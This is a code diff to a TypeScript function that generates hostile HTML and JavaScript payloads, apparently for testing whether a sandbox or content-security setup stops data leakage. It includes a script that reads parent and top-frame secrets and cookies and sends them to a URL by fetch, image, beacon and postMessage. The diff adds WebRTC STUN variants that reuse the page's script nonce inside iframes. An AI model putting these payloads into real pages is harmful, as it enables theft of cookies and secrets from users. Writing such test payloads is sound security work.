@@ -18,7 +18,7 @@ const steal = (url: string): string => `(() => {
   read(() => parent.secret); read(() => top.secret); read(() => parent.document.body.textContent)
   read(() => top.document.cookie); read(() => frameElement.ownerDocument.cookie); read(() => opener.secret)
   const out = '${url}?stolen=' + encodeURIComponent(got.join('|'))
-  const send = f => { try { const done = f(); if (done && done.catch) done.catch(() => 0) } catch (error) {} }
+  const send = f => { try { const done = f(); if (done && done.catch) done.catch(() => 0) } catch { void 0 } }
   send(() => fetch(out, { mode: 'no-cors' })); send(() => { new Image().src = out }); send(() => navigator.sendBeacon(out, 'x'))
   send(() => parent.postMessage({ stolen: got.join('|') }, '*')); send(() => { parent.owned = 1 }); send(() => { top.owned = 1 })
 })()`
@@ -31,7 +31,7 @@ export function hostilePayloads(port: number): Payload[] {
   const html = (name: string, make: (url: string) => string, more: { leaves?: true } = {}) =>
     add('text/html', name, make, more)
   const script = (name: string, make: (url: string) => string, more: { leaves?: true } = {}) =>
-    html(name, url => `<p>${name}</p><script>try { ${make(url)} } catch (error) {}</script>`, more)
+    html(name, url => `<p>${name}</p><script>try { ${make(url)} } catch { void 0 }</script>`, more)
   const now = (url: string) => steal(url).replaceAll('"', '&quot;')
 
   script('script', steal)
@@ -170,6 +170,15 @@ export function hostilePayloads(port: number): Payload[] {
     url =>
       `onload = () => { const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(url).host}' }] }); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) }`,
   )
+  for (const [name, load] of [
+    ['webrtc-srcdoc', 'f.srcdoc = page'],
+    ['webrtc-blob', "f.src = URL.createObjectURL(new Blob([page], { type: 'text/html' }))"],
+  ] as const)
+    script(
+      name,
+      url =>
+        `const page = '<script nonce="' + document.querySelector('script').nonce + '">const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${new URL(url).host}" }] }); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))<' + '/script>'; const f = document.createElement('iframe'); ${load}; document.body.append(f)`,
+    )
   script('web-transport', url => `new WebTransport('${url.replace('http:', 'https:')}')`)
   script(
     'made-link',
@@ -199,7 +208,7 @@ export function hostilePayloads(port: number): Payload[] {
   script(
     'frames',
     url =>
-      `for (let n = 0; n < parent.length; n++) try { parent[n].document.body.innerHTML = '<img src=${url}>' } catch (error) {}`,
+      `for (let n = 0; n < parent.length; n++) try { parent[n].document.body.innerHTML = '<img src=${url}>' } catch { void 0 }`,
   )
 
   add(
